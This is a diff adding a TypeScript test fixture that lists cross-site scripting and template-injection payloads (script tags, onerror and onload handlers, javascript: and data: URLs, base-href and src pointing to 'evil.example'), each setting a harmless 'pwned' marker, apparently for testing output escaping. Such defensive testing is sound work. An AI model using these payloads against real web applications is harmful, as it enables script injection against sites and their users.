@@ -1,0 +1,21 @@
+/** What somebody may write into an address so that it runs, or breaks out of where it is put; each would set `pwned`. */
+export const payloads: readonly string[] = [
+  '<script>top.pwned=1</script>',
+  '<img src=x onerror=top.pwned=1>',
+  '<svg onload=top.pwned=1>',
+  '"><img src=x onerror=top.pwned=1>',
+  `' onfocus='top.pwned=1' autofocus='`,
+  'javascript:top.pwned=1',
+  'data:text/html,<script>top.pwned=1</script>',
+  'coalition-goals onclick=top.pwned=1',
+  'coalition-goals><script>top.pwned=1</script>',
+  '{{constructor.constructor("top.pwned=1")()}}',
+  '${top.pwned=1}',
+  '</title><script>top.pwned=1</script>',
+  '\u202e<script>top.pwned=1</script>',
+  '%3Cscript%3Etop.pwned=1%3C/script%3E',
+  '<iframe srcdoc="<script>top.pwned=1</script>">',
+  '<base href=https://evil.example/>',
+  '<meta http-equiv=refresh content="0;url=javascript:top.pwned=1">',
+  '<coalition-goals src=https://evil.example/fake.json>',
+];
